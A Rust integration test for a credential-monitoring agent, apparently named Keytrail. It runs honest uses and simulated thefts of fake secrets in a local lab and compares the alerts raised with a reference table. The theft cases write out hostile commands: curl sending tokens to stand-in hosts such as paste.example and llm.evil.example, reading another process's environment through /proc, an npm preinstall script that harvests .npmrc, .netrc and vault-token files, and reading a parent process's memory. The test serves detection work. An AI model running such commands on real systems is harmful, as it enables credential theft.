//! Honest setups and thefts, each with what is raised about it. `docs/judgement.md` is the table of
//! them, which this test compares with what it sees, or writes with `KEYTRAIL_WRITE_REFERENCE`.

use anyhow::{Context as _, Result, ensure};
use lab::{agent::Agent, client, server::TlsServer, web::WebServer, workload::TestUnit};
use std::{
    collections::BTreeMap,
    fmt::Write as _,
    fs,
    io::{BufRead as _, BufReader},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::Duration,
};
use tempfile::TempDir;

/// What the setups share.
struct JudgementLab {
    agent: Agent,
    directory: TempDir,
    tls: TlsServer,
    plain: WebServer,
    proxy: ConnectProxy,
}

/// A proxy that leads to the server of the lab, whatever is asked of it.
struct ConnectProxy {
    child: Child,
    port: u16,
}

impl ConnectProxy {
    fn start(server: u16) -> Result<Self> {
        let mut child = Command::new("python3")
            .arg(client("connect_proxy.py"))
            .arg(server.to_string())
            .stdout(Stdio::piped())
            .spawn()?;
        let mut line = String::new();
        let stdout = child.stdout.take().context("its output")?;
        BufReader::new(stdout).read_line(&mut line)?;
        let port = line.trim().parse()?;
        Ok(Self { child, port })
    }
}

impl Drop for ConnectProxy {
    fn drop(&mut self) {
        // It serves until it is ended.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

const POLICY: &str = r#"
credentials:
- { name: bait, match: { file: DIR/bait/.netrc }, decoy: true }
- { name: shop-db, match: { file: DIR/shop/.pgpass }, readers: [ { unit: judged-shop.service } ], destinations: [ "db.shop.example" ] }
- { name: thief-own, match: { file: DIR/thief/.pgpass }, destinations: [ "drop.example" ] }
gateways:
- { name: llm, classes: [ openai-key ], destinations: [ "llm.corp.example" ] }
inspectors: [ { unit: judged-profiler.service } ]
"#;

impl JudgementLab {
    fn new() -> Result<Self> {
        ensure!(lab::is_root(), "the scenarios need root");
        // Not in a temporary directory, where home directories never are.
        let directory = tempfile::Builder::new()
            .prefix("keytrail-judged-")
            .tempdir_in("/opt")?;
        let config = directory.path().join("keytrail.yaml");
        let place = directory.path().display().to_string();
        fs::write(&config, POLICY.replace("DIR", &place))?;
        let config = config.to_str().context("a name")?;
        let agent = Agent::start(directory.path(), &["--config", config])?;
        let tls = TlsServer::start("127.0.0.1")?;
        Ok(Self {
            agent,
            proxy: ConnectProxy::start(tls.address.port())?,
            directory,
            tls,
            plain: WebServer::start_plain("127.0.0.1")?,
        })
    }

    fn path(&self, name: &str) -> Result<PathBuf> {
        let path = self.directory.path().join(name);
        fs::create_dir_all(path.parent().context("a directory")?)?;
        Ok(path)
    }

    /// curl presents a header to a server of this name.
    fn curl(&self, host: &str, header: &str) -> String {
        let port = self.tls.address.port();
        format!(
            "curl -sSk -o /dev/null --resolve {host}:{port}:127.0.0.1 -H \"{header}\" https://{host}:{port}/"
        )
    }

    /// A unit presents a secret of its environment, whose variable the header names.
    fn present_variable(
        &self,
        unit: &TestUnit,
        host: &str,
        header: &str,
        secret: String,
    ) -> Result<String> {
        let (_, variable) = header.rsplit_once('$').context("a variable")?;
        unit.sh(&self.curl(host, header), &[(variable, &secret)])?;
        Ok(secret)
    }

    /// A unit presents a token to a server of this name through the proxy, which resolves the name.
    fn present_by_proxy(
        &self,
        unit: &TestUnit,
        scheme: &str,
        host: &str,
        token: String,
    ) -> Result<String> {
        let (proxy, port) = (self.proxy.port, self.tls.address.port());
        let script = format!(
            "curl -sSk -o /dev/null --proxy {scheme}://127.0.0.1:{proxy} --proxy-user fake:FakeProxy-{port} -H \"Authorization: Bearer {token}\" https://{host}:{port}/"
        );
        unit.sh(&script, &[])?;
        Ok(token)
    }
}

/// A setup, and what is raised about it.
struct Setup {
    name: &'static str,
    /// The rule and severity; nothing if it is empty.
    raised: &'static str,
    /// Runs it in a unit of its own; returns the secret that is presented or read.
    run: fn(&JudgementLab, &TestUnit) -> Result<String>,
}

/// A secret that only one setup uses.
fn fake(mark: &str, number: u32) -> String {
    format!("{mark}FAKEjudgedFAKEjudgedFAKE{number:012}")
}

const HONEST: &[Setup] = &[
    Setup {
        name: "a GitHub token at GitHub, through a CONNECT proxy",
        raised: "",
        run: |lab, unit| lab.present_by_proxy(unit, "http", "api.github.com", fake("ghp_", 1)),
    },
    Setup {
        name: "a GitHub token at GitHub, through a SOCKS proxy",
        raised: "",
        run: |lab, unit| lab.present_by_proxy(unit, "socks5h", "api.github.com", fake("ghp_", 7)),
    },
    Setup {
        name: "a key at the gateway that the unit's environment names",
        raised: "unexpected-hop low",
        run: |lab, unit| {
            let key = fake("sk-ant-api03-", 2);
            let script = lab.curl("llm.corp.example", "X-Api-Key: $ANTHROPIC_API_KEY");
            let gateway = format!("https://llm.corp.example:{}/", lab.tls.address.port());
            let environment = [
                ("ANTHROPIC_API_KEY", key.as_str()),
                ("ANTHROPIC_BASE_URL", &gateway),
            ];
            // It stays the first process, and curl is its child.
            unit.sh(&format!("{script}; true"), &environment)?;
            Ok(key)
        },
    },
    Setup {
        name: "a key at the gateway that the configuration names",
        raised: "",
        run: |lab, unit| {
            let key = fake("sk-proj-", 3);
            let header = "Authorization: Bearer $OPENAI_API_KEY";
            lab.present_variable(unit, "llm.corp.example", header, key)
        },
    },
    Setup {
        name: "a cloud key at an emulator on loopback",
        raised: "unexpected-hop low",
        run: |lab, unit| {
            let key = format!("AKIAFAKEJUDGED{:06}", 4);
            let port = lab.plain.address.port();
            let script = format!(
                "curl -sS -o /dev/null -H \"X-Api-Key: $AWS_ACCESS_KEY_ID\" http://localhost:{port}/"
            );
            unit.sh(&script, &[("AWS_ACCESS_KEY_ID", &key)])?;
            Ok(key)
        },
    },
    Setup {
        name: "a key without a mark at a host that nobody knows",
        raised: "unexpected-hop medium",
        run: |lab, unit| {
            let key = fake("0123456789", 5);
            lab.present_variable(unit, "metrics.corp.example", "DD-API-KEY: $DD_API_KEY", key)
        },
    },
    Setup {
        name: "a Slack token in the government's Slack",
        raised: "",
        run: |lab, unit| {
            let token = fake("xoxb-", 6);
            let header = "Authorization: Bearer $SLACK_BOT_TOKEN";
            lab.present_variable(unit, "slack-gov.com", header, token)
        },
    },
];

const THEFTS: &[Setup] = &[
    Setup {
        name: "a GitHub token at another server, through a CONNECT proxy",
        raised: "unexpected-hop critical",
        run: |lab, unit| lab.present_by_proxy(unit, "http", "paste.example", fake("ghp_", 101)),
    },
    Setup {
        name: "a GitHub token at another server, through a SOCKS proxy",
        raised: "unexpected-hop critical",
        run: |lab, unit| lab.present_by_proxy(unit, "socks5h", "paste.example", fake("ghp_", 112)),
    },
    Setup {
        name: "a key at a gateway that only a child's environment names",
        raised: "unexpected-hop critical",
        run: |lab, unit| {
            let key = fake("sk-ant-api03-", 102);
            let script = lab.curl("llm.evil.example", "X-Api-Key: $ANTHROPIC_API_KEY");
            let script = format!("ANTHROPIC_BASE_URL=https://llm.evil.example {script}; true");
            unit.sh(&script, &[("ANTHROPIC_API_KEY", &key)])?;
            Ok(key)
        },
    },
    Setup {
        name: "a cloud key at a function of another customer",
        raised: "",
        run: |lab, unit| {
            let key = format!("AKIAFAKEJUDGED{:06}", 103);
            let host = "abcdef.lambda-url.eu-west-1.on.aws";
            lab.present_variable(unit, host, "X-Api-Key: $AWS_ACCESS_KEY_ID", key)
        },
    },
    Setup {
        name: "a decoy that is read",
        raised: "unexpected-reader critical",
        run: |lab, unit| {
            let password = fake("bait-", 104);
            let file = lab.path("bait/.netrc")?;
            fs::write(&file, format!("machine a login b password {password}\n"))?;
            unit.sh(&format!("cat {} >/dev/null", file.display()), &[])?;
            Ok(password)
        },
    },
    Setup {
        name: "a token that was washed through a keystore",
        raised: "unexpected-hop critical",
        run: |lab, unit| {
            let token = fake("ghp_", 105);
            let store = lab.path("washed/x.keystore")?;
            fs::write(&store, &token)?;
            let header = format!("Authorization: Bearer $(cat {})", store.display());
            unit.sh(&lab.curl("paste.example", &header), &[])?;
            Ok(token)
        },
    },
    Setup {
        name: "stolen bytes in the file of the thief's own expectation",
        raised: "unexpected-hop critical",
        run: |lab, unit| {
            let password = fake("shop-db-", 106);
            let line = format!("db.shop.example:5432:shop:shop:{password}\n");
            let (own, thief) = (lab.path("shop/.pgpass")?, lab.path("thief/.pgpass")?);
            fs::write(&own, &line)?;
            TestUnit::new("judged-shop.service")?
                .sh(&format!("cat {} >/dev/null", own.display()), &[])?;
            lab.agent.await_used(&own.display().to_string())?;
            fs::write(&thief, &line)?;
            let script = lab.curl("drop.example", &format!("Authorization: Bearer {password}"));
            unit.sh(
                &format!("cat {} >/dev/null; {script}", thief.display()),
                &[],
            )?;
            Ok(password)
        },
    },
    Setup {
        name: "a token at an address that only the thief's own resolver gives for its home",
        raised: "unexpected-hop low",
        run: |lab, unit| {
            let token = fake("ghp_", 110);
            let (host, resolver) = ("codeload.github.com", client("own_resolver.py"));
            let ask = format!("python3 {resolver} {host} 127.0.0.1 127.0.0.78");
            let script = lab.curl(host, "Authorization: Bearer $GITHUB_TOKEN");
            unit.sh(&format!("{ask} && {script}"), &[("GITHUB_TOKEN", &token)])?;
            Ok(token)
        },
    },
    Setup {
        name: "a token at its home, presented by a unit that never picked it up",
        raised: "new-user medium",
        run: |lab, unit| {
            let token = fake("ghp_", 107);
            own_and_present(lab, &token)?;
            let script = lab.curl("api.github.com", &format!("Authorization: Bearer {token}"));
            unit.sh(&script, &[])?;
            Ok(token)
        },
    },
    Setup {
        name: "a token at its home, read from the environment of its owner",
        raised: "new-user high",
        run: |lab, unit| {
            let token = fake("ghp_", 108);
            own_and_present(lab, &token)?;
            let owner = TestUnit::new("judged-owner.service")?;
            let mut holder = owner
                .command("exec sleep 60")
                .env("GITHUB_TOKEN", &token)
                .spawn()?;
            let pid = holder.id();
            let has_execed = || {
                let name = fs::read_to_string(format!("/proc/{pid}/comm"))?;
                Ok((name.trim() == "sleep").then_some(()))
            };
            lab::wait_for("the holder runs", Duration::from_secs(5), has_execed)?;
            let script = lab.curl("api.github.com", "Authorization: Bearer $T");
            let stolen = format!(
                "T=$(tr '\\0' '\\n' </proc/{pid}/environ | sed -n 's/^GITHUB_TOKEN=//p'); {script}"
            );
            let stealing = unit.sh(&stolen, &[]);
            holder.kill()?;
            holder.wait()?;
            stealing?;
            Ok(token)
        },
    },
    Setup {
        name: "an npm package whose install script reads the files of three tools",
        raised: "harvest high",
        run: |lab, unit| {
            let home = lab.path("victim/.npmrc")?;
            fs::write(
                &home,
                "//registry.example/:_authToken=npm_FAKEjudgedFAKEjudgedFAKEjudged0109\n",
            )?;
            let netrc = lab.path("victim/.netrc")?;
            fs::write(&netrc, "machine a login b password FakeJudged-0109\n")?;
            let key = lab.path("victim/.vault-token")?;
            fs::write(&key, "hvs.FAKEjudgedFAKEjudged0109\n")?;
            let package = lab.path("package/package.json")?;
            let script = format!(
                "cat {} >/dev/null; grep -c a {} >/dev/null; head -c 4 {} >/dev/null",
                home.display(),
                netrc.display(),
                key.display()
            );
            let scripts = serde_json::json!({ "preinstall": script });
            let manifest =
                serde_json::json!({ "name": "x", "version": "1.0.0", "scripts": scripts });
            fs::write(&package, manifest.to_string())?;
            let directory = package.parent().context("a directory")?;
            unit.sh(
                &format!(
                    "cd {} && npm install --offline --no-audit >/dev/null",
                    directory.display()
                ),
                &[],
            )?;
            Ok(String::new())
        },
    },
    Setup {
        name: "a tool that was downloaded a moment ago, and reads a file that is not its own",
        raised: "untrusted-binary medium",
        run: |lab, unit| {
            let file = lab.path("fetched/.netrc")?;
            fs::write(&file, "machine a login b password FakeJudged-0111\n")?;
            let tool = lab.path("fetched/bin/tool")?;
            let script = format!(
                "curl -sS -o '{tool}' file:///bin/cat && chmod +x '{tool}' && '{tool}' '{}' >/dev/null",
                file.display(),
                tool = tool.display()
            );
            unit.sh(&script, &[])?;
            Ok(String::new())
        },
    },
    Setup {
        name: "a job that reads the memory of its runner",
        raised: "foreign-process-read high",
        run: |_, unit| {
            let read = "import os; open(f'/proc/{os.getppid()}/mem', 'rb').close()";
            unit.sh(&format!("python3 -c \"{read}\"; true"), &[])?;
            Ok(String::new())
        },
    },
];

/// A unit picks a token up from a file, and presents it at its home.
fn own_and_present(lab: &JudgementLab, token: &str) -> Result<()> {
    let file = lab.path(&format!("owner-{token}/.config/gh/hosts.yml"))?;
    fs::write(&file, format!("github.com:\n  oauth_token: {token}\n"))?;
    let header = format!(
        "Authorization: Bearer $(sed -n 's/.*oauth_token: //p' {})",
        file.display()
    );
    let script = lab.curl("api.github.com", &header);
    TestUnit::new("judged-owner.service")?.sh(&script, &[])?;
    lab.agent
        .await_presented(token, Duration::from_secs(5), || Ok(()))
}

/// The worst finding about a secret or by a unit.
fn worst(lab: &JudgementLab, id: Option<&str>, unit: &str) -> Result<String> {
    let order = ["low", "medium", "high", "critical"];
    let rank = |text: &str| order.iter().position(|known| *known == text);
    let findings = lab.agent.findings()?;
    let about = findings.iter().filter(|finding| {
        let by_unit = finding["workload"]["unit"] == unit;
        by_unit && id.is_none_or(|id| finding["credential"]["id"] == id)
    });
    // What is said of every credential of a class is not about the setup.
    let about = about.filter(|finding| finding["rule"] != "long-lived-credential");
    let mut raised: Vec<(Option<usize>, String)> = about
        .map(|finding| {
            let text = |name: &str| finding[name].as_str().unwrap_or_default().to_owned();
            let severity = text("severity");
            (rank(&severity), format!("{} {severity}", text("rule")))
        })
        .collect();
    raised.sort();
    Ok(raised.pop().map_or_else(String::new, |(_, text)| text))
}

/// Runs a setup; returns what was raised about it.
fn judge(lab: &JudgementLab, setup: &Setup, number: usize) -> Result<String> {
    let name = format!("judged-{number}.service");
    let unit = TestUnit::new(&name)?;
    let secret = (setup.run)(lab, &unit).with_context(|| setup.name)?;
    let id = (!secret.is_empty())
        .then(|| lab.agent.id_of(&secret))
        .transpose()?;
    // Everything before was processed when a later read is known, and that of a packet a moment later.
    if id.is_some() && !setup.raised.starts_with("unexpected-reader") {
        lab.agent
            .await_presented(&secret, Duration::from_secs(5), || Ok(()))?;
    }
    let marker = lab.path(&format!("marker-{number}/.netrc"))?;
    fs::write(&marker, "machine marker login x password FakeMarker\n")?;
    fs::read(&marker)?;
    lab.agent.await_used(&marker.display().to_string())?;
    worst(lab, id.as_deref(), &name)
}

#[test]
fn honest_setups_and_thefts() -> Result<()> {
    let lab = JudgementLab::new()?;
    let mut seen = BTreeMap::new();
    let all = HONEST.iter().chain(THEFTS);
    for (number, setup) in all.enumerate() {
        seen.insert(setup.name, judge(&lab, setup, number)?);
    }
    let mut page = String::from(
        "# Honest setups and thefts\n\nWhat Keytrail raises, with default settings where nothing else is said. `cargo xtask scenarios judgement` runs each of them.\n",
    );
    let mut wrong = Vec::new();
    for (title, setups) in [("Honest setups", HONEST), ("Thefts", THEFTS)] {
        write!(page, "\n## {title}\n\n| setup | raised |\n|---|---|\n")?;
        for setup in setups {
            let raised = seen.get(setup.name).context("it ran")?;
            let shown = if raised.is_empty() { "nothing" } else { raised };
            writeln!(page, "| {} | {shown} |", setup.name)?;
            if raised != setup.raised {
                wrong.push(format!(
                    "{}: {shown} instead of {}",
                    setup.name, setup.raised
                ));
            }
        }
    }
    ensure!(wrong.is_empty(), "judged wrongly:\n{}", wrong.join("\n"));
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/judgement.md");
    if std::env::var_os("KEYTRAIL_WRITE_REFERENCE").is_some() {
        fs::write(&path, &page)?;
    }
    ensure!(
        fs::read_to_string(&path)? == page,
        "docs/judgement.md is out of date: run this test with KEYTRAIL_WRITE_REFERENCE=1"
    );
    Ok(())
}
